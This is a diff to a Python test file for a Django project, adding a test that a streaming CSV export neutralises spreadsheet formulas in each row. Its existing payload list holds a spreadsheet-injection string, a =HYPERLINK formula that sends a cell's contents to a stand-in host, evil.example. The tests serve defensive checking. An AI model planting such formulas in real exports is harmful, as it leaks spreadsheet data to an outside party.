@@ -3,6 +3,7 @@ XLSX and CSV export (no live =HYPERLINK in the call answers or the group lists).
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 
@@ -10,7 +11,7 @@ import openpyxl
 import pytest
 from django.utils import timezone
 
-from samskap.core.exports import csv_cell, save_workbook
+from samskap.core.exports import csv_cell, csv_stream, save_workbook
 from samskap.directory.models import County, Municipality
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A2,"Klikk her")', "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"]
@@ -51,3 +52,12 @@ def test_call_export_keeps_a_formula_title_as_text(coordinator, contact_steinkje
     cells = _cells(call_answers_xlsx(call))
     assert any(c.value == PAYLOADS[0] for c in cells)
     assert all(c.data_type != "f" for c in cells)
+
+
+def test_csv_stream_is_formula_safe_row_by_row():
+    chunks = list(csv_stream(["Navn", "=x"], iter([["=HYPERLINK(\"y\")", "+47 22 00 00 00"], ["@a", "b;c"]]),
+                             delimiter=";", bom=True))
+    assert len(chunks) == 3  # the header and one chunk per row: nothing is collected first
+    text = b"".join(chunks).decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
+        ["Navn", "'=x"], ["'=HYPERLINK(\"y\")", "+47 22 00 00 00"], ["'@a", "b;c"]]
